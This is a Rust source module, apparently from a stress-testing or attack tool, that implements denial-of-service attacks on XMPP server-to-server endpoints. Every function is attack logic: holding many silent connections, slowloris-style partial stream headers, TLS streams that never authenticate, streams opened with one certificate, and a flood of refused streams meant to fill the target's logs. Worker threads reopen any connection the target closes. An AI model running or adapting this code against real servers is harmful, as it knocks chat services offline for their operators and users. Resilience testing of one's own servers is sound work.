//! Attacks by the number of connections alone, and by their rate.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use s2s_peer::error::{PeerError, Result};
use s2s_peer::stream::Stream;

use super::aim::Aim;
use super::tally::Tally;

/// Number of threads of an attack that holds many connections.
const WORKERS: usize = 4;
/// Interval of the checks of the held connections.
const LOOK_INTERVAL: Duration = Duration::from_millis(100);
/// Maximum time to write to a target that no longer reads.
const WRITE_TIMEOUT: Duration = Duration::from_secs(1);
/// Maximum time to wait for an optional answer.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(5);

/// A held connection, with its stream.
pub(super) struct Held {
    handle: TcpStream,
    _stream: Option<Stream>,
}

impl Held {
    pub(super) fn new(handle: TcpStream, stream: Option<Stream>) -> Self {
        // From now on, the connection is only checked.
        let _ = handle.set_nonblocking(true);
        Self { handle, _stream: stream }
    }

    /// Whether the target has closed it. Input before the end stays unread.
    fn is_closed(&self) -> bool {
        match self.handle.peek(&mut [0; 1]) {
            Ok(count) => count == 0,
            Err(error) => error.kind() != ErrorKind::WouldBlock,
        }
    }
}

/// Holds the number of connections that the aim specifies, and opens another one for each that the target closes.
/// `open` gets the number of the connection.
pub(super) fn crowd(aim: &Aim, tally: &Tally, open: impl Fn(usize) -> Result<Held> + Sync) {
    let workers = WORKERS.min(aim.connections.max(1));
    thread::scope(|scope| {
        for worker in 0..workers {
            let (open, share) = (&open, aim.connections.div_ceil(workers));
            scope.spawn(move || {
                let (mut held, mut number) = (Vec::with_capacity(share), worker);
                while !tally.is_over() {
                    let before = held.len();
                    held.retain(|one: &Held| !one.is_closed());
                    (held.len()..before).for_each(|_| tally.ended());
                    if held.len() >= share {
                        thread::sleep(LOOK_INTERVAL);
                        continue;
                    }
                    if let Ok(one) = open(number) {
                        held.push(one);
                    } else {
                        tally.ended();
                        thread::sleep(LOOK_INTERVAL);
                    }
                    number += workers;
                }
            });
        }
    });
}

/// Lets threads repeat `once` until the end. Each call gets the number of the thread and of the repetition.
pub(super) fn repeat(aim: &Aim, tally: &Tally, once: impl Fn(usize, usize) -> Result<()> + Sync) {
    thread::scope(|scope| {
        for thread in 0..aim.connections.max(1) {
            let once = &once;
            scope.spawn(move || {
                for time in 0.. {
                    if tally.is_over() {
                        return;
                    }
                    if once(thread, time).is_err() {
                        tally.ended();
                    }
                }
            });
        }
    });
}

/// Connections that never send anything.
pub(super) fn silent(aim: &Aim, tally: &Tally) {
    crowd(aim, tally, |_| {
        let tcp = aim.connect()?;
        tally.opened();
        Ok(Held::new(tcp, None))
    });
}

/// Connections that stop within their header (slowloris).
pub(super) fn slow_headers(aim: &Aim, tally: &Tally) {
    let header = b"<?xml version='1.0'?><stream:stream xmlns='jabber:server' xmlns:stream='http://etherx.jabber.org/streams'";
    let open = |number: usize| -> Result<Held> {
        let mut tcp = aim.connect()?;
        tally.opened();
        let count = 1 + number % header.len();
        let some = header.get(..count).unwrap_or(header);
        tcp.write_all(some).map_err(PeerError::io("sending"))?;
        tally.sent(some.len());
        Ok(Held::new(tcp, None))
    };
    crowd(aim, tally, open);
}

/// Encrypted streams that never authenticate.
pub(super) fn unauthenticated(aim: &Aim, tally: &Tally) -> Result<()> {
    let tls = aim.tls()?;
    crowd(aim, tally, |_| {
        let opened = aim.open(&aim.from, &tls, tally)?;
        Ok(Held::new(opened.handle, Some(opened.stream)))
    });
    Ok(())
}

/// Streams that one certificate authenticates, each with a stanza.
pub(super) fn authenticated(aim: &Aim, tally: &Tally) -> Result<()> {
    let tls = aim.tls()?;
    crowd(aim, tally, |number| {
        let mut opened = aim.authenticated(&aim.from, &tls, tally)?;
        let stanza = message(&aim.from, &aim.domain, number, "");
        opened.stream.send(&stanza)?;
        tally.sent(stanza.len());
        Ok(Held::new(opened.handle, Some(opened.stream)))
    });
    Ok(())
}

/// Streams that are refused at once, as fast as the target refuses them. Each may write a line into its log.
pub(super) fn log_flood(aim: &Aim, tally: &Tally) {
    let header = format!(
        "<stream:stream xmlns='jabber:server' xmlns:stream='http://etherx.jabber.org/streams' \
         from='{}' to='unknown.invalid' version='1.0'>",
        aim.from
    );
    repeat(aim, tally, |_, _| {
        let mut tcp = aim.connect()?;
        tally.opened();
        let failed = PeerError::io("sending a header");
        tcp.set_read_timeout(Some(ANSWER_TIMEOUT)).map_err(PeerError::io("setting a time-out"))?;
        tcp.write_all(header.as_bytes()).map_err(failed)?;
        tally.sent(header.len());
        let mut answer = Vec::new();
        // A reset is an answer as well.
        let _ = tcp.read_to_end(&mut answer);
        tally.received(answer.len());
        tally.ended();
        Ok(())
    });
}

/// From now on, the target counts as full when it accepts nothing for a moment.
pub(super) fn opened_for_writing(stream: &mut Stream) -> Result<()> {
    let timeout = stream.transport().set_patience(WRITE_TIMEOUT);
    timeout.map_err(PeerError::io("setting a time-out"))
}

/// A small message.
pub(super) fn message(from: &str, to: &str, id: usize, payload: &str) -> String {
    format!("<message from='x@{from}/r' to='y@{to}' id='{id}'>{payload}</message>")
}
